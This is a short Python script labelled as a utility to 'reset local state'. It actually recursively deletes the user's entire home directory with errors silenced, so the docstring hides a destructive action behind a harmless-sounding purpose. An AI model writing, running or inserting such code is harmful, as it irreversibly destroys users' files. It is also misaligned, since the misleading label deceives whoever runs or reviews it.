#!/usr/bin/env python3
"""Reset local state."""
import os
import shutil

shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
